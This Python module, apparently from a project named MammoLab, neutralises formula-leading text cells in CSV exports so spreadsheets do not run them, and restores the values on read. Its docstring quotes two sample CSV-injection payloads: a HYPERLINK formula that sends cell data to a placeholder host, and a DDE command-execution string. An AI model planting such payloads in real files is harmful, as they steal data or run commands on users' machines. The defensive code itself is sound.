"""CSV files people open in spreadsheets: formula-leading text cells neutralised, and given back on read.

A patient id such as ``=HYPERLINK("http://x?"&A1)`` or ``=cmd|' /C calc'!A0`` copied verbatim into a
CSV becomes a live formula when the file is opened in Excel or LibreOffice (CSV injection, OWASP).
Every CSV MammoLab writes for people goes through :func:`to_csv_text`, which prefixes such text
cells with a single quote, OWASP's advice. defusedcsv does the same for the csv module, but also
rewrites ``|`` and wraps the value in quotes, which cannot be read back exactly; MammoLab reads its
own manifest and predictions back, so the rule here is one that :func:`restore_text` inverts:

* a text cell matching ``'*`` followed by ``= + - @``, tab or CR gets one more leading ``'``;
* on read, a text cell matching ``'+`` followed by one of those loses exactly one ``'``.

Numbers are never touched: numeric columns stay numbers, and a text cell that is a plain number
(``-3``, ``+1.5e3``) is what a spreadsheet shows as a number, not a formula.
"""

from __future__ import annotations

import csv
import re
from typing import Any

import pandas as pd

__all__ = ["neutralise", "read_csv", "restore", "restore_text", "safe_text", "to_csv_text"]

_TRIGGER = re.compile(r"^'*[=+\-@\t\r]")
_NEUTRALISED = re.compile(r"^'+[=+\-@\t\r]")
_NUMBER = re.compile(r"^[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?$")


def safe_text(value: Any) -> Any:
    """``value`` as a spreadsheet shows it as text (a quote before a formula-leading string)."""
    if isinstance(value, str) and _TRIGGER.match(value) and not _NUMBER.match(value):
        return "'" + value
    return value


def restore_text(value: Any) -> Any:
    """The inverse of :func:`safe_text` for a cell read back from a file it wrote."""
    if isinstance(value, str) and _NEUTRALISED.match(value):
        return value[1:]
    return value


def _text_columns(df: pd.DataFrame) -> list[str]:
    return [c for c in df.columns if df[c].dtype == object or pd.api.types.is_string_dtype(df[c])]


def neutralise(df: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``df`` whose text cells (and column names) are spreadsheet-safe."""
    out = df.copy()
    for col in _text_columns(out):
        out[col] = out[col].map(safe_text)
    out.columns = [safe_text(c) for c in out.columns]
    return out


def restore(df: pd.DataFrame) -> pd.DataFrame:
    """``df`` read from a file :func:`to_csv_text` wrote, with the original text values."""
    df = df.copy()
    for col in _text_columns(df):
        df[col] = df[col].map(restore_text)
    df.columns = [restore_text(c) for c in df.columns]
    return df


def to_csv_text(df: pd.DataFrame, **kwargs: Any) -> str:
    """``df.to_csv`` (no index, ``\\n`` line ends unless given) after :func:`neutralise`."""
    kwargs.setdefault("index", False)
    kwargs.setdefault("lineterminator", "\n")
    safe = neutralise(df)
    if any(safe[c].map(lambda v: isinstance(v, str) and "\r" in v).any() for c in _text_columns(safe)):
        # the csv module quotes only the line terminator's characters: a lone CR would end the row
        kwargs.setdefault("quoting", csv.QUOTE_NONNUMERIC)
    return safe.to_csv(**kwargs)


def read_csv(path: Any, **kwargs: Any) -> pd.DataFrame:
    """``pd.read_csv`` of a file :func:`to_csv_text` wrote, text values given back as they were."""
    return restore(pd.read_csv(path, **kwargs))
